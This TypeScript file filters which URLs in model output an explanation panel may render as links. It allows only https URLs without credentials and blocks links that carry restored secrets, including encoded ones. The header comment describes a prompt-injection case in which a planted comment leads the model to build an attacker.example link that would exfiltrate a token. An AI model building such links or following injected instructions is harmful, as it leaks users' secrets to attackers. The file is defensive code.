/**
 * Which link targets and image sources the explanation panel may make clickable. Model
 * output is untrusted: only https URLs qualify, and never one that carries a secret that
 * was restored into the answer (a prompt-injected comment can ask the model to build
 * `https://attacker.example/?t=<placeholder>`; after restoring, that link would carry the
 * real token to whoever owns the host).
 */

/**
 * An absolute https URL with a host and no `user:password@` part (credentials are never
 * shown): anything else (javascript:, command:, data:, http:, relative) stays text.
 */
export function isHttpsUrl(url: string): boolean {
  if (!/^https:\/\//i.test(url)) return false;
  try {
    const u = new URL(url);
    return u.protocol === 'https:' && u.hostname !== '' && u.username === '' && u.password === '';
  } catch {
    return false;
  }
}

/**
 * Whether `url` holds one of the restored secrets, literally or percent-encoded (the
 * Markdown parser encodes link targets), in any letter case (host names are
 * case-insensitive): an unneeded refusal costs a click, a missed one leaks the secret.
 */
export function carriesSecret(url: string, restored: readonly string[]): boolean {
  if (!restored.length) return false;
  const forms = [url, decoded(url), decoded(decoded(url))].map((f) => f.toLowerCase());
  return restored.some((secret) => {
    if (!secret) return false;
    const needles = [secret, encodeURIComponent(secret), encodeURI(secret)].map((n) => n.toLowerCase());
    return forms.some((f) => needles.some((n) => f.includes(n)));
  });
}

function decoded(url: string): string {
  try {
    return decodeURIComponent(url.replace(/\+/g, ' '));
  } catch {
    // A broken escape: decode what can be decoded, one escape at a time.
    return url.replace(/%[0-9a-f]{2}/gi, (e) => {
      try {
        return decodeURIComponent(e);
      } catch {
        return e;
      }
    });
  }
}
